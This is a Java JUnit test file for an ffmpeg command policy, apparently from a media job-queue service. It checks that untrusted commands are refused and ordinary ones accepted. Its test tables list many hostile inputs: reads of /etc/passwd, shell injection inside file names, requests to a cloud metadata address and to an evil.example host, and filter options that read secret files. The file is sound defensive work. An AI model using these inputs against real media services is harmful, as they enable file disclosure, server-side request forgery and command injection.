package io.ffmpegqueue.ffmpeg;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.ffmpegqueue.InvalidTaskException;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class CommandPolicyTest {
  private static final CommandPolicy STRICT = CommandPolicy.strict();

  /** A hostile command, the task's declared files, and what the refusal must say. */
  private static Arguments hostile(String command, String inputs, String outputs, String reason) {
    return Arguments.of(command, Set.of(inputs.isEmpty() ? new String[0] : inputs.split(",")),
        Set.of(outputs.split(",")), reason);
  }

  static Stream<Arguments> hostileCommands() {
    String in = "in.mp4";
    String out = "out.mp4";
    return Stream.of(
        // Paths and names outside the task.
        hostile("-i /etc/passwd out.mp4", in, out, "input '/etc/passwd': is a path"),
        hostile("-i ../in.mp4 out.mp4", in, out, "input '../in.mp4': is a path"),
        hostile("-i ./in.mp4 out.mp4", in, out, "input './in.mp4': is a path"),
        hostile("-i in.mp4 /tmp/out.mp4 out.mp4", in, out, "output '/tmp/out.mp4': '/tmp/out.mp4' is an absolute path"),
        hostile("-i 'in.mp4;rm -rf /' out.mp4", in, out, "input 'in.mp4;rm -rf /': is a path"),
        hostile("-i '$(cat /etc/passwd)' out.mp4", in, out, "input '$(cat /etc/passwd)': is a path"),
        hostile("-i missing.mp4 out.mp4", in, out, "input 'missing.mp4': is not a declared input (declared: in.mp4)"),
        hostile("-i in.mp4 other.mp4 out.mp4", in, out, "output 'other.mp4': is not a declared output"),
        hostile("-i in.mp4 in.mp4 out.mp4", in, out, "output 'in.mp4' is a declared input"),
        hostile("-i out.mp4 out.mp4", in, out, "input 'out.mp4': is declared as an output"),
        hostile("-i in.mp4 -c copy out2.mp4", in, out + ",out2.mp4", "declared output 'out.mp4' is not written"),
        // Protocols.
        hostile("-i file:in.mp4 out.mp4", in, out, "input 'file:in.mp4': uses the protocol 'file:'"),
        hostile("-i 'concat:in.mp4|/etc/passwd' out.mp4", in, out, "uses the protocol 'concat:'"),
        hostile("-i subfile:,,start,0,end,0,,:/etc/passwd out.mp4", in, out, "uses the protocol 'subfile:'"),
        hostile("-i http://169.254.169.254/latest/meta-data out.mp4", in, out, "uses the protocol 'http:'"),
        hostile("-i tcp://127.0.0.1:22 out.mp4", in, out, "uses the protocol 'tcp:'"),
        hostile("-i pipe:0 out.mp4", in, out, "uses the protocol 'pipe:'"),
        hostile("-i 'data:text/plain;base64,I0VYVE0zVQ==' out.mp4", in, out, "uses the protocol 'data:'"),
        hostile("-i - out.mp4", in, out, "input '-': reads standard input"),
        hostile("-i in.mp4 -f mp4 - out.mp4", in, out, "output '-': writes to standard output"),
        hostile("-i in.mp4 -f mp4 fd:1 out.mp4", in, out, "output 'fd:1': uses the protocol 'fd:'"),
        hostile("-i in.mp4 -f mp4 udp://10.0.0.1:1234 out.mp4", in, out, "uses the protocol 'udp:'"),
        // Options that read or write side files.
        hostile("-i in.mkv -attach font.ttf out.mp4", "in.mkv,font.ttf", out, "'-attach font.ttf': attaches a file"),
        hostile("-dump_attachment:t font.ttf -i in.mkv out.mp4", "in.mkv", out, "'-dump_attachment:t font.ttf': writes attachments"),
        hostile("-i in.mp4 -filter_script:v filters.txt out.mp4", in, out, "'-filter_script:v filters.txt': reads a script"),
        hostile("-filter_complex_script graph.txt -i in.mp4 out.mp4", in, out, "'-filter_complex_script graph.txt': reads a script"),
        hostile("-i in.mp4 -/vf filters.txt out.mp4", in, out, "'-/vf filters.txt': the -/option form"),
        hostile("-progress http://evil.example/ -i in.mp4 out.mp4", in, out, "'-progress http://evil.example/': the runner reports progress"),
        hostile("-vstats_file /tmp/v.log -i in.mp4 out.mp4", in, out, "'-vstats_file /tmp/v.log': writes a statistics file"),
        hostile("-vstats -i in.mp4 out.mp4", in, out, "'-vstats': writes a statistics file"),
        hostile("-i in.mp4 -pass 1 -passlogfile /tmp/x out.mp4", in, out, "'-passlogfile /tmp/x': writes two-pass log files"),
        hostile("-report -i in.mp4 out.mp4", in, out, "'-report': writes a log file"),
        hostile("-i in.mp4 -sdp_file s.sdp out.mp4", in, out, "'-sdp_file s.sdp': writes an SDP file"),
        hostile("-i in.mp4 -stats_enc_pre:v enc.log out.mp4", in, out, "'-stats_enc_pre:v enc.log': writes a statistics file"),
        hostile("-i in.mp4 -vpre slow out.mp4", in, out, "'-vpre slow': reads preset files"),
        hostile("-fpre /etc/x.ffpreset -i in.mp4 out.mp4", in, out, "'-fpre /etc/x.ffpreset': reads preset files"),
        hostile("-protocol_whitelist file,http -i in.mp4 out.mp4", in, out, "'-protocol_whitelist file,http': is set by the runner"),
        hostile("-format_whitelist hls -i in.mp4 out.mp4", in, out, "'-format_whitelist hls': is set by the runner"),
        hostile("-nostdin -i in.mp4 out.mp4", in, out, "'-nostdin': the runner keeps standard input"),
        hostile("-enable_drefs 1 -i in.mov out.mp4", "in.mov", out, "'-enable_drefs 1': follows references"),
        hostile("-safe 0 -i in.mp4 out.mp4", in, out, "'-safe 0': lets a playlist name any file"),
        hostile("-h full", in, out, "'-h': prints information and exits"),
        hostile("-i in.mp4 -hls_segment_filename /tmp/seg%d.ts out.mp4", in, out, "is an option of the hls muxer"),
        hostile("-i in.mp4 -c:v libx264 -x264-params stats=/tmp/x264.log out.mp4", in, out, "'/tmp/x264.log' is a path"),
        hostile("-init_hw_device vaapi=va:/dev/dri/renderD128 -i in.mp4 out.mp4", in, out, "'/dev/dri/renderD128' is a path"),
        hostile("-i in.mp4 -metadata:s:v title=x -headers 'X: a' -method file:x out.mp4", in, out, "names a URL with the protocol 'file:'"),
        // Formats.
        hostile("-f concat -i list.txt out.mp4", "list.txt", out, "the input format 'concat' is not allowed"),
        hostile("-f hls -i in.m3u8 out.mp4", "in.m3u8", out, "the input format 'hls' is not allowed"),
        hostile("-f dash -i in.mpd out.mp4", "in.mpd", out, "the input format 'dash' is not allowed"),
        hostile("-f v4l2 -i in.mp4 out.mp4", in, out, "the input format 'v4l2' is not allowed"),
        hostile("-i in.mp4 -f tee out.mp4", in, out, "'-f tee': the muxer 'tee' writes files the task does not declare"),
        hostile("-i in.mp4 -f segment out%03d.mp4", in, out, "'out%03d.mp4' is outside the declared outputs"),
        hostile("-i in.mp4 -f hls out.m3u8", in, "out.m3u8", "must lie inside a declared folder"),
        hostile("-i in.mp4 out.m3u8", in, "out.m3u8", "output 'out.m3u8': 'out.m3u8' is outside the declared outputs"),
        hostile("-i in.mp4 -f rtp out.mp4", in, out, "the muxer 'rtp' sends to the network"),
        hostile("-i in.mp4 -f fifo -fifo_format mp4 out.mp4", in, out, "the muxer 'fifo' writes files"),
        // Files inside filtergraphs.
        hostile("-i in.mp4 -vf movie=/etc/passwd out.mp4", in, out, "filter movie argument 1 reads '/etc/passwd', is a path"),
        hostile("-i in.mp4 -vf \"movie=other.mp4 [wm]; [in][wm] overlay\" out.mp4", in, out, "reads 'other.mp4', is not a declared input"),
        hostile("-i in.mp4 -filter_complex 'amovie=http\\\\://evil.example/x.mp3[a]' -map '[a]' out.mp4", in, out, "uses the protocol 'http:'"),
        hostile("-i in.mp4 -vf \"movie='/etc/pa'sswd\" out.mp4", in, out, "reads '/etc/passwd'"),
        hostile("-i in.mp4 -vf subtitles=/etc/passwd out.mp4", in, out, "filter subtitles argument 1 reads '/etc/passwd'"),
        hostile("-i in.mp4 -vf subtitles=subs.srt:fontsdir=/usr/share/fonts out.mp4", in + ",subs.srt", out, "filter subtitles 'fontsdir' names a folder"),
        hostile("-i in.mp4 -vf ass=file.ass out.mp4", in, out, "filter ass argument 1 reads 'file.ass'"),
        hostile("-i in.mp4 -vf drawtext=textfile=/etc/passwd out.mp4", in, out, "filter drawtext 'textfile' reads '/etc/passwd'"),
        hostile("-i in.mp4 -vf drawtext=fontfile=/usr/share/fonts/a.ttf:text=hi out.mp4", in, out, "filter drawtext 'fontfile' reads"),
        hostile("-i in.mp4 -vf drawtext=/etc/passwd out.mp4", in, out, "filter drawtext argument 1 reads '/etc/passwd'"),
        hostile("-i in.mp4 -vf drawtext=/text=/etc/passwd out.mp4", in, out, "filter drawtext reads the value of 'text' from a file"),
        hostile("-i in.mp4 -vf sendcmd=f=cmds.txt,drawtext=text=x out.mp4", in + ",cmds.txt", out, "filter sendcmd reads commands from a file"),
        hostile("-i in.mp4 -vf \"sendcmd=c='0 drawtext reinit textfile=/etc/passwd',drawtext=text=x\" out.mp4", in, out, "sends a command that sets 'textfile'"),
        hostile("-i in.mp4 -vf lut3d=/tmp/x.cube out.mp4", in, out, "filter lut3d argument 1 reads '/tmp/x.cube'"),
        hostile("-i in.mp4 -vf zmq,null out.mp4", in, out, "filter zmq receives commands over the network"),
        hostile("-i in.mp4 -vf 'scale=320:-2,frei0r=distort0r' out.mp4", in, out, "filter frei0r loads a plugin library"),
        hostile("-i in.mp4 -lavfi psnr=stats_file=/tmp/s.log -f null out.mp4", in, out, "filter psnr 'stats_file' writes '/tmp/s.log'"),
        hostile("-i in.mp4 -af ametadata=mode=print:file=m.txt out.mp4", in, out, "filter ametadata 'file' writes 'm.txt', is not a declared output"),
        hostile("-i in.mp4 -vf 'scale=640:-2 [a' out.mp4", in, out, "the filtergraph cannot be read"),
        // lavfi inputs.
        hostile("-f lavfi -i movie=/etc/passwd out.mp4", "", out, "'-i movie=/etc/passwd': filter movie argument 1 reads '/etc/passwd'"),
        hostile("-f lavfi -i amovie=in.mp4:f=hls out.mp4", in, out, "the input format 'hls' is not allowed"),
        hostile("-f lavfi -graph movie=/etc/passwd -i nullsrc out.mp4", "", out, "'-graph movie=/etc/passwd': filter movie argument 1 reads '/etc/passwd'"),
        hostile("-i in.mp4 -vf \"sendcmd=c='0 drawtext reinit text\\\\file=/etc/passwd',drawtext=text=x\" out.mp4", in, out, "sends a command that sets 'textfile'"),
        hostile("-f lavfi -graph_file g.txt -i nullsrc out.mp4", "g.txt", out, "'-graph_file g.txt': reads a filtergraph from a file"));
  }

  @ParameterizedTest(name = "[{index}] {0}")
  @MethodSource("hostileCommands")
  void a_hostile_command_is_refused_with_its_reason(String command, Set<String> inputs, Set<String> outputs, String reason) {
    assertThatThrownBy(() -> STRICT.check(FfmpegCommand.parse(command), inputs, outputs))
        .isInstanceOf(InvalidTaskException.class)
        .satisfies(e -> assertThat(((InvalidTaskException) e).field()).isEqualTo("command"))
        .hasMessageContaining(reason);
  }

  @Test
  void the_hostile_table_has_at_least_forty_commands() {
    assertThat(hostileCommands().count()).isGreaterThanOrEqualTo(40);
  }

  static Stream<Arguments> acceptedCommands() {
    return Stream.of(
        hostile("-i in.mp4 -vf scale=640:-2 -c:v libx264 -preset veryfast -crf 28 -c:a aac out.mp4", "in.mp4", "out.mp4", ""),
        hostile("-y -ss 1 -t 2 -i in.mp4 -r 30000/1001 -aspect 16/9 -movflags +faststart out.mp4", "in.mp4", "out.mp4", ""),
        hostile("-i in.mp4 -filter_complex '[0:v]split=2[a][b]' -map '[a]' a.mp4 -map '[b]' -s 160x120 b.mp4", "in.mp4", "a.mp4,b.mp4", ""),
        hostile("-f lavfi -i testsrc=d=2:s=320x240 -f lavfi -i sine=d=2 -shortest out.mp4", "", "out.mp4", ""),
        hostile("-i in.mp4 -i subs.srt -vf subtitles=subs.srt out.mp4", "in.mp4,subs.srt", "out.mp4", ""),
        hostile("-i in.mp4 -vf \"drawtext=text='AC/DC':fontsize=20\" out.mp4", "in.mp4", "out.mp4", ""),
        hostile("-i in.mp4 -vf drawtext=fontfile=font.ttf:textfile=credits.txt out.mp4", "in.mp4,font.ttf,credits.txt", "out.mp4", ""),
        hostile("-i in.mp4 -metadata title=AC/DC -metadata:s:a:0 language=eng out.mp4", "in.mp4", "out.mp4", ""),
        hostile("-i in.mp4 -c:v libx264 -x264-params keyint=60:fps=30000/1001 out.mp4", "in.mp4", "out.mp4", ""),
        hostile("-i in.mp4 -force_key_frames 'expr:gte(t,n_forced*2)' out.mp4", "in.mp4", "out.mp4", ""),
        hostile("-nostats -hide_banner -loglevel error -i in.mp4 -an out.mp4", "in.mp4", "out.mp4", ""),
        hostile("-i in.mp4 -i ref.mp4 -lavfi psnr=stats_file=psnr.log -f null out.null", "in.mp4,ref.mp4", "out.null,psnr.log", ""),
        hostile("-i in.mp4 -vf 'movie=logo.png[wm];[in][wm]overlay=10:10' out.mp4", "in.mp4,logo.png", "out.mp4", ""),
        hostile("-i in.mp4 -vf \"sendcmd=c='0.5 drawtext reinit text=hi',drawtext=text=x\" out.mp4", "in.mp4", "out.mp4", ""),
        hostile("-i in.mp4 -map 0 -c copy -f matroska out.mkv", "in.mp4", "out.mkv", ""),
        hostile("-i in.mp4 -ss 1 -frames:v 1 thumb.png", "in.mp4", "thumb.png", ""));
  }

  @ParameterizedTest(name = "[{index}] {0}")
  @MethodSource("acceptedCommands")
  void an_ordinary_command_is_accepted(String command, Set<String> inputs, Set<String> outputs, String unused) {
    assertThatCode(() -> STRICT.check(FfmpegCommand.parse(command), inputs, outputs)).doesNotThrowAnyException();
  }

  @Test
  void a_trusted_caller_can_allow_a_refused_muxer_option_filter_or_demuxer_by_name() {
    CommandPolicy trusted = CommandPolicy.builder()
        .allowOutputFormats("segment")
        .allowOptions("attach")
        .allowFilters("sendcmd")
        .allowInputFormats("concat")
        .build();
    Set<String> out = Set.of("out.mkv");
    assertThatCode(() -> trusted.check(FfmpegCommand.parse("-i in.mp4 -f segment out.mkv"), Set.of("in.mp4"), out))
        .doesNotThrowAnyException();
    assertThatCode(() -> trusted.check(FfmpegCommand.parse("-i in.mp4 -attach font.ttf out.mkv"), Set.of("in.mp4", "font.ttf"), out))
        .doesNotThrowAnyException();
    assertThatCode(() -> trusted.check(FfmpegCommand.parse("-i in.mp4 -vf sendcmd=f=c.txt,null out.mkv"), Set.of("in.mp4", "c.txt"), out))
        .doesNotThrowAnyException();
    assertThatCode(() -> trusted.check(FfmpegCommand.parse("-f concat -i list.txt out.mkv"), Set.of("list.txt"), out))
        .doesNotThrowAnyException();
    assertThat(trusted.inputFormats()).contains("concat", "mov");
    // Paths stay refused whatever is allowed.
    assertThatThrownBy(() -> trusted.check(FfmpegCommand.parse("-i in.mp4 -attach /etc/passwd out.mkv"), Set.of("in.mp4"), out))
        .hasMessageContaining("'/etc/passwd' is a path");
  }

  @Test
  void the_strict_input_formats_exclude_playlists_devices_and_the_network() {
    assertThat(STRICT.inputFormats()).contains("mov", "matroska", "mpegts", "wav", "lavfi")
        .doesNotContain("hls", "concat", "dash", "imf", "rtsp", "sdp", "v4l2", "x11grab", "webm_dash_manifest");
    assertThat(CommandPolicy.builder().onlyInputFormats("mov").build().inputFormats()).containsExactly("mov");
  }
}
